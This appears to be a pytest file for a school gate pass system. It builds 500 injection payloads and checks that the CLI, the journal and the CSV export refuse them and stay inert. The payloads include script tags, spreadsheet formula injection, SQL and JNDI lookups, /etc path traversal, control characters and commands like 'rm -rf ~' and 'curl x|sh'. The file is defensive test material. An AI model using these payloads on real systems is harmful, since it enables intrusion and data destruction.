"""Five hundred malicious texts are inert in answers, journals and tables (reliability T5)."""

import csv
import itertools
import json
import random
import threading
import unicodedata
from pathlib import Path

import cv2
import numpy as np
import pytest
from tests.cli.conftest import MONDAY_0800, frame

from portique.cli.judging import bench_of
from portique.core.seal import Purpose, private_key
from portique.core.values import to_ms
from portique.gate.capture import Frame
from portique.gate.journal import Journal
from portique.gate.replay import Decided, Replay
from portique.school.folder import SchoolFolder
from portique.school.instants import typed_instant
from portique.sight.codes import Look
from portique.sight.shapes import Sighted

pytestmark = pytest.mark.slow  # pictures read

PAYLOADS = 500
BROKEN = {"Cc", "Cs", "Zl", "Zp"}  # controls, half characters, line ends
EVERY_MS = 4_000  # longer than a showing needs to be gone
COMMANDS = ("alert(1)", "calc", "rm -rf ~", "curl x|sh", "DROP TABLE entry")
SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "=cmd|'/c {}'!A1",
    "+SUM(1)*{}",
    "-2+3|{}",
    "@{}",
    "\t={}",
    "'); {};--",
    "$({})`{}`",
    "%0d%0a{}",
    "{{{{{}}}}}",
    "${{jndi:ldap://x/{}}}",
    '"}}\n{{"ok": true, "outcome": "grant", "x": "{}',
    "../../../../etc/{}",
    "file:///etc/{}",
    "portique: {}",
    "%s%n%x{}",
)
DRESS = (
    *("\x1b[2J\x1b[31m", "\x1b]0;x\x07", "\u202e", "\u2066", "\u200b", "\x00", "\r\n", "\n"),
    *("\u2028", "\x85", "\ufeff", "\ud800", "\x9b31m", "e" + "\u0301" * 40, "\U000e0041", ""),
)


def payloads() -> list[str]:
    """Return 500 texts: every shape with every command, then dressed at random."""
    chance = random.Random(5)
    made = [shape.replace("{}", c) for shape, c in itertools.product(SHAPES, COMMANDS)]
    while len(made) < PAYLOADS:
        shape, command = chance.choice(SHAPES), chance.choice(COMMANDS)
        begun = chance.choice(("", "PQ1:", "PQ2:", "PQ"))
        made.append(
            begun + chance.choice(DRESS) + shape.replace("{}", command) + chance.choice(DRESS)
        )
    return made


def test_lines_are_answered_and_never_repeated(school, run):
    """Each line of `pass show -` gets one refusal of the same few words."""
    given = b"\n".join(p.encode("utf-8", "surrogatepass") for p in payloads())
    asked = ("pass", "show", "-", "--unseal", "--school", school.folder, "--at", MONDAY_0800)
    answer = run(*asked, stdin=given)

    assert len(answer.lines) == given.count(b"\n") + 1
    assert answer.stdout.isascii()
    assert {one["outcome"] for one in answer.all} == {"refuse"}
    assert {text for one in answer.all for text in one["reasons"]} == {
        "not-a-pass",
        "unreadable-pass",
    }


def test_names_come_out_as_one_ascii_line(school, run, tmp_path):
    """Genuine passes with malicious names: --unseal answers one line of JSON each."""
    names = [name for name in payloads() if "\ud800" not in name and name.strip("\r\n\x00\u2028")]
    table = tmp_path / "class.csv"
    with table.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("kind", "name"), *(("staff", name) for name in names)])
    issued = run("pass", "issue", "--school", school.folder, "--csv", table, "--json").all
    texts = "\n".join(one["text"] for one in issued).encode()
    asked = ("pass", "show", "-", "--unseal", "--school", school.folder)
    answer = run(*asked, stdin=texts)

    assert len(names) == len(issued) == len(answer.lines)
    assert answer.stdout.isascii()
    assert not BROKEN & {unicodedata.category(c) for one in answer.all for c in one["name"]}


class Scripted:
    """A code reader that reads the next payload in every frame."""

    def __init__(self, texts: list[str]) -> None:
        self._texts = iter(texts)

    def read(self, _grey: object, *, at_ms: int) -> Look:
        """Return one code in the middle of the frame."""
        assert at_ms
        quad = ((40.0, 40.0), (280.0, 40.0), (280.0, 280.0), (40.0, 280.0))
        return Look((Sighted(next(self._texts), quad, sharpened=False),), (), 1)


def shown_to_a_lane(folder: Path, file: Path, texts: list[str]) -> list[Decided]:
    """Put texts through a whole lane, one after another, and close its journal."""
    opened = SchoolFolder.open(folder)
    try:
        bench = bench_of(opened, "entry-1", typed_instant(MONDAY_0800, "Europe/Paris"))
    finally:
        opened.close()
    entropy = random.Random(7).randbytes
    start = to_ms(typed_instant(MONDAY_0800, "Europe/Paris"))
    key = private_key(Purpose.GATE, entropy(40))
    journal = Journal.open(file, gate_id="entry-1", key=key, now_ms=start, entropy=entropy)
    blank = np.zeros((320, 320), np.uint8)
    frames = (Frame(n, start + n * EVERY_MS, blank) for n in range(len(texts)))
    replay = Replay(bench, journal, Scripted(texts))
    decided = list(replay.run(frames, closing=threading.Event()))
    journal.close(at_ms=start + len(texts) * EVERY_MS)
    return decided


def test_a_lane_refuses_them_and_its_table_is_inert(school, run, tmp_path):
    """No text of a code reaches the journal, and no cell of its export is a formula."""
    texts, file, out = payloads(), tmp_path / "journal.db", tmp_path / "journal.csv"
    decided = shown_to_a_lane(school.folder, file, texts)
    answer = run("journal", "export", file, "--out", out, "--json")
    with out.open(encoding="utf-8", newline="") as opened:
        rows = list(csv.reader(opened))

    assert len(decided) == PAYLOADS
    assert not any(one.judged.granted for one in decided)
    assert answer.json["entries"] == len(rows) - 1 >= PAYLOADS
    assert not any(command in out.read_text("utf-8") for command in COMMANDS)
    assert not any(cell.lstrip()[:1] in {"=", "+", "-", "@"} for row in rows for cell in row)
    assert all(cell.isprintable() for row in rows for cell in row)


@pytest.mark.parametrize("number", range(0, 85, 5))
def test_a_picture_of_one_is_refused_without_its_text(school, tmp_path, number: int):
    """From the camera's picture to the line of the decision."""
    text = payloads()[number]
    path = tmp_path / "code.png"
    cv2.imwrite(str(path), frame(text))
    answer = school.replay(path)

    assert answer.all[0]["outcome"] == "refuse"
    assert answer.all[0]["pass_id"] is None
    assert json.dumps(text)[1:-1] not in answer.stdout
